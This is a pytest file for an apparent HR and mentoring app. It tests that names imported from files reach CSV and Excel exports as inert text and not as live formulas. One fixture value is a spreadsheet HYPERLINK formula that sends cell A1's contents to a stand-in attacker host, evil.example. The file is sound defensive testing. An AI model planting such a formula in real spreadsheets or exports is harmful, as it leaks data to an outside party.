"""Exports never carry a live formula: text from imported files that begins with = + - @ (a unit's
name, say) reaches CSV and Excel as plain text."""
import csv
import io

import pytest
from openpyxl import load_workbook

from mentorplan.extensions import db
from mentorplan.models import Person, Unit
from mentorplan.files.export import inert

from tests.retention.test_retention_pages import PILOT, pilot  # noqa: F401  (the fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+47 123", "'+47 123"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("Lade", "Lade"), ("<5", "<5"), (12, 12), (-0.5, -0.5), (None, None),
])
def test_inert(value, expected):
    assert inert(value) == expected


@pytest.fixture
def hostile_unit(app, pilot):  # noqa: F811
    with app.app_context():
        db.session.get(Unit, pilot.unit_ids["a"]).name = HOSTILE
        db.session.commit()
    return pilot


def test_the_csv_export_escapes_formulas(hostile_unit, login):
    body = login(hostile_unit.email("hr")).get("/stabilitet/eksport.csv", query_string=PILOT).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_excel_export_holds_no_formula(hostile_unit, login):
    response = login(hostile_unit.email("hr")).get("/stabilitet/eksport.xlsx", query_string=PILOT)
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE in [c.value for c in cells]


PAYROLL = "/mentorer/funksjonstillegg.{}?first=2026-01-01&last=2026-06-30"
HOSTILE_NAME = '=HYPERLINK("http://x","y")'


@pytest.fixture
def hostile_mentor(app, world):
    """A mentor whose name and employee number came from a file as formulas."""
    with app.app_context():
        mentor = db.session.get(Person, world.person_ids["mentor_b"])
        mentor.first_name, mentor.last_name, mentor.employee_number = HOSTILE_NAME, "", "@SUM(A1)"
        db.session.commit()
    return world


def test_the_payroll_csv_escapes_formulas(hostile_mentor, login):
    body = login(hostile_mentor.email("hr")).get(PAYROLL.format("csv")).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert any(cell.startswith("'" + HOSTILE_NAME) for cell in cells)
    assert "'@SUM(A1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_payroll_workbook_holds_the_name_as_text(hostile_mentor, login):
    response = login(hostile_mentor.email("hr")).get(PAYROLL.format("xlsx"))
    cells = [cell for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(name.startswith("'=HYPERLINK") for name in names)
